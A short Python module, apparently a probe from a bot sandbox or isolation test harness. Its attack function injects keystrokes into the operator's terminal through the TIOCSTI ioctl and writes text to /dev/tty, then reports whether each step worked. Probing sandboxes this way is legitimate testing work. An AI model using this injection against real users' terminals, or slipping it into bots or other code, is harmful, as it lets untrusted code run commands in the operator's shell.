"""Types into the terminal of whoever runs the bot, and writes on it."""

from __future__ import annotations

import fcntl
import os
from typing import Any

TYPE = 0x5412  # TIOCSTI


def attack(world: dict[str, Any]) -> dict[str, Any]:
    typed = written = False
    for number in (0, 1, 2, 3, -1):
        try:
            terminal = os.open("/dev/tty", os.O_RDWR) if number < 0 else number
        except OSError:
            continue
        for letter in world["typed"].encode():
            try:
                fcntl.ioctl(terminal, TYPE, bytes([letter]))
                typed = True
            except OSError:
                break
        if number < 0:
            written = os.write(terminal, world["written"].encode()) > 0
    return {"typed": typed, "written": written}
